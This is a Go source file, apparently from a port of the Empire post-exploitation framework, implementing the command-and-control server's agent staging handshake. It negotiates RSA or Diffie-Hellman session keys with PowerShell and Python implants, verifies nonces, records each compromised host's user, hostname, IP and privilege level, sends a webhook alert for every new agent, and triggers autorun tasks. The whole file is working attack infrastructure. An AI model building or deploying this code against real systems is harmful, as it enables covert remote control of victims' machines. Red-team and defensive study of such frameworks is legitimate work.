package agents

import (
	"fmt"
	"math/big"
	"strings"

	"github.com/Pen-Git/Empire/encryption"
	"github.com/Pen-Git/Empire/events"
	"github.com/Pen-Git/Empire/packets"
	"github.com/Pen-Git/Empire/store"
)

const (
	nonceLen = 16

	// Bounds on the textual Diffie-Hellman public value a Python agent
	// posts.
	minDHDigits = 1000
	maxDHDigits = 2500

	// A PowerShell RSA key export is never shorter than this.
	minRSAXMLLen = 400
)

// handleStaging runs one step of the three-message key negotiation. The
// server keeps no handshake state beyond the agent row: each step is decided
// entirely by the meta tag, the staging key, and what the row already holds.
func (m *Manager) handleStaging(frame packets.RoutingFrame, stagingKey []byte, opts ListenerOptions, clientIP string) []byte {
	sessionID := frame.SessionID

	switch frame.Meta {
	case packets.MetaStage0:
		// The listener swaps this marker for the prebuilt stager blob.
		return []byte("STAGE0")

	case packets.MetaStage1:
		return m.handleStage1(sessionID, frame.Language, frame.Payload, stagingKey, opts, clientIP)

	case packets.MetaStage2:
		return m.handleStage2(sessionID, frame.Payload, opts, clientIP)

	default:
		m.emit(sessionID, events.Event{
			Message: fmt.Sprintf("[!] Invalid staging request packet from %s at %s : %s", sessionID, clientIP, frame.Meta),
			Print:   true,
		})
		return nil
	}
}

// handleStage1 ingests the agent's asymmetric material and answers with the
// minted nonce and session-key material, sealed for the agent's variant.
func (m *Manager) handleStage1(sessionID string, lang packets.Language, payload, stagingKey []byte, opts ListenerOptions, clientIP string) []byte {
	m.emit(sessionID, events.Event{
		Message: fmt.Sprintf("[*] Agent %s from %s posted public key", sessionID, clientIP),
	})

	plaintext, err := encryption.AESDecryptAndVerify(stagingKey, payload)
	if err != nil {
		m.emit(sessionID, events.Event{
			Message: fmt.Sprintf("[!] HMAC verification failed from '%s'", sessionID),
			Print:   true,
		})
		return []byte("ERROR: HMAC verification failed")
	}

	switch lang {
	case packets.LangPowerShell:
		return m.stage1PowerShell(sessionID, plaintext, opts, clientIP)
	case packets.LangPython:
		return m.stage1Python(sessionID, plaintext, stagingKey, opts, clientIP)
	default:
		m.emit(sessionID, events.Event{
			Message: fmt.Sprintf("[*] Agent %s from %s using an invalid language specification: %s", sessionID, clientIP, lang),
			Print:   true,
		})
		return []byte(fmt.Sprintf("ERROR: invalid language: %s", lang))
	}
}

func (m *Manager) stage1PowerShell(sessionID string, plaintext []byte, opts ListenerOptions, clientIP string) []byte {
	// The agent-side export can pick up stray control bytes in transit.
	keyXML := stripNonPrintable(string(plaintext))

	if len(keyXML) < minRSAXMLLen || !strings.HasSuffix(keyXML, "</RSAKeyValue>") {
		m.emit(sessionID, events.Event{
			Message: fmt.Sprintf("[!] Invalid PowerShell key post format from %s", sessionID),
			Print:   true,
		})
		return []byte("ERROR: Invalid PowerShell key post format")
	}

	pub, err := encryption.RSAKeyFromXML(keyXML)
	if err != nil {
		m.emit(sessionID, events.Event{
			Message: fmt.Sprintf("[!] Agent %s returned an invalid PowerShell public key!", sessionID),
			Print:   true,
		})
		return []byte("ERROR: Invalid PowerShell public key")
	}

	m.emit(sessionID, events.Event{
		Message: fmt.Sprintf("[*] Agent %s from %s posted valid PowerShell RSA key", sessionID, clientIP),
	})

	sessionKey, err := encryption.GenerateAESKey()
	if err != nil {
		m.logger.Error("generate session key", "session_id", sessionID, "error", err)
		return []byte("ERROR: staging failure")
	}
	nonce, err := encryption.RandomNonce(nonceLen)
	if err != nil {
		m.logger.Error("generate nonce", "session_id", sessionID, "error", err)
		return []byte("ERROR: staging failure")
	}

	if err := m.AddAgent(sessionID, clientIP, opts, sessionKey, nonce, packets.LangPowerShell.String()); err != nil {
		m.logger.Error("add agent", "session_id", sessionID, "error", err)
		return []byte("ERROR: staging failure")
	}

	reply, err := encryption.RSAEncrypt(pub, append([]byte(nonce), sessionKey...))
	if err != nil {
		// The half-built row must not survive a failed handshake.
		if rmErr := m.RemoveAgent(sessionID); rmErr != nil {
			m.logger.Error("roll back agent", "session_id", sessionID, "error", rmErr)
		}
		m.logger.Error("seal stage1 reply", "session_id", sessionID, "error", err)
		return []byte("ERROR: staging failure")
	}
	return reply
}

func (m *Manager) stage1Python(sessionID string, plaintext, stagingKey []byte, opts ListenerOptions, clientIP string) []byte {
	invalid := func() []byte {
		m.emit(sessionID, events.Event{
			Message: fmt.Sprintf("[!] Invalid Python key post format from %s", sessionID),
			Print:   true,
		})
		return []byte(fmt.Sprintf("ERROR: Invalid Python key post format from %s", sessionID))
	}

	text := strings.TrimSpace(string(plaintext))
	if len(text) < minDHDigits || len(text) > maxDHDigits {
		return invalid()
	}
	clientPub, ok := new(big.Int).SetString(text, 10)
	if !ok || !encryption.ValidDHPublic(clientPub) {
		return invalid()
	}

	server, err := encryption.DHGenerate()
	if err != nil {
		m.logger.Error("dh keypair", "session_id", sessionID, "error", err)
		return []byte("ERROR: staging failure")
	}
	sessionKey := server.Derive(clientPub)

	nonce, err := encryption.RandomNonce(nonceLen)
	if err != nil {
		m.logger.Error("generate nonce", "session_id", sessionID, "error", err)
		return []byte("ERROR: staging failure")
	}

	m.emit(sessionID, events.Event{
		Message: fmt.Sprintf("[*] Agent %s from %s posted valid Python PUB key", sessionID, clientIP),
		Print:   true,
	})

	if err := m.AddAgent(sessionID, clientIP, opts, sessionKey, nonce, packets.LangPython.String()); err != nil {
		m.logger.Error("add agent", "session_id", sessionID, "error", err)
		return []byte("ERROR: staging failure")
	}

	reply, err := encryption.AESEncryptThenHMAC(stagingKey, append([]byte(nonce), server.Public.String()...))
	if err != nil {
		if rmErr := m.RemoveAgent(sessionID); rmErr != nil {
			m.logger.Error("roll back agent", "session_id", sessionID, "error", rmErr)
		}
		m.logger.Error("seal stage1 reply", "session_id", sessionID, "error", err)
		return []byte("ERROR: staging failure")
	}
	return reply
}

// sysinfoFieldCount is the pipe-delimited field count of a sysinfo checkin:
// nonce | listener | domain | user | host | internal_ip | os | high_integrity
// | proc_name | proc_id | language | language_version.
const sysinfoFieldCount = 12

// handleStage2 verifies the incremented nonce, ingests the agent's first
// sysinfo report, and activates it. Any failure rolls the half-staged agent
// back out of the table.
func (m *Manager) handleStage2(sessionID string, payload []byte, opts ListenerOptions, clientIP string) []byte {
	sessionKey, err := m.SessionKey(sessionID)
	if err != nil {
		m.emit(sessionID, events.Event{
			Message: fmt.Sprintf("[!] Agent %s posted sysinfo without a session key", sessionID),
			Print:   true,
		})
		return []byte(fmt.Sprintf("ERROR: sessionID %s not in cache!", sessionID))
	}

	rollback := func(format string, args ...any) []byte {
		msg := fmt.Sprintf(format, args...)
		m.emit(sessionID, events.Event{Message: msg, Print: true})
		if err := m.RemoveAgent(sessionID); err != nil {
			m.logger.Error("roll back agent", "session_id", sessionID, "error", err)
		}
		return []byte("ERROR: " + msg)
	}

	plaintext, err := encryption.AESDecryptAndVerify(sessionKey, payload)
	if err != nil {
		return rollback("Agent %s posted an undecryptable sysinfo checkin", sessionID)
	}

	parts := strings.Split(string(plaintext), "|")
	if len(parts) != sysinfoFieldCount {
		return rollback("Agent %s posted invalid sysinfo checkin format: %s", sessionID, string(plaintext))
	}

	a, err := m.Agent(sessionID)
	if err != nil {
		return rollback("Agent %s row missing during sysinfo checkin", sessionID)
	}

	got, err := parseNonce(parts[0])
	if err != nil {
		return rollback("Invalid nonce returned from %s", sessionID)
	}
	want, err := parseNonce(a.Nonce)
	if err != nil || got != want+1 {
		return rollback("Invalid nonce returned from %s", sessionID)
	}

	m.emit(sessionID, events.Event{
		Message: fmt.Sprintf("[*] Nonce verified: agent %s posted valid sysinfo checkin", sessionID),
	})

	domain := strings.TrimSpace(parts[2])
	username := parts[3]
	if domain != "" {
		username = domain + "\\" + username
	}
	info := store.Sysinfo{
		Listener:        opts.Name,
		InternalIP:      parts[5],
		Username:        username,
		Hostname:        parts[4],
		OSDetails:       parts[6],
		HighIntegrity:   parts[7] == "True",
		ProcessName:     parts[8],
		ProcessID:       parts[9],
		Language:        parts[10],
		LanguageVersion: parts[11],
	}
	if err := m.UpdateSysinfo(sessionID, info); err != nil {
		return rollback("Failed to persist sysinfo for %s", sessionID)
	}

	if opts.WebhookURL != "" {
		text := fmt.Sprintf(":biohazard_sign: NEW AGENT :biohazard_sign:\r\n"+
			"```Machine Name: %s\r\nInternal IP: %s\r\nExternal IP: %s\r\nUser: %s\r\nOS Version: %s\r\nAgent ID: %s```",
			info.Hostname, info.InternalIP, clientIP, info.Username, info.OSDetails, sessionID)
		if err := events.NotifyWebhook(opts.WebhookURL, text); err != nil {
			m.logger.Warn("webhook notification failed", "session_id", sessionID, "error", err)
		}
	}

	m.emit(sessionID, events.Event{
		EventType: events.TypeCheckin,
		Message:   fmt.Sprintf("[+] Initial agent %s from %s now active", sessionID, clientIP),
		Print:     true,
	})

	m.SaveAgentLog(sessionID, fmt.Sprintf("[+] Agent %s now active:\n%s", sessionID, sysinfoSummary(info)))

	m.runAutoruns(sessionID, info.Language)

	return []byte("STAGE2: " + sessionID)
}

func sysinfoSummary(info store.Sysinfo) string {
	var b strings.Builder
	line := func(label, value string) {
		fmt.Fprintf(&b, "%-18s%s\n", label+":", value)
	}
	line("Listener", info.Listener)
	line("Internal IP", info.InternalIP)
	line("Username", info.Username)
	line("Hostname", info.Hostname)
	line("OS", info.OSDetails)
	line("High Integrity", fmt.Sprintf("%t", info.HighIntegrity))
	line("Process Name", info.ProcessName)
	line("Process ID", info.ProcessID)
	line("Language", info.Language)
	line("Language Version", info.LanguageVersion)
	return b.String()
}

func stripNonPrintable(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for _, c := range s {
		if c >= 0x20 && c < 0x7f || c == '\t' || c == '\n' || c == '\r' {
			b.WriteRune(c)
		}
	}
	return b.String()
}
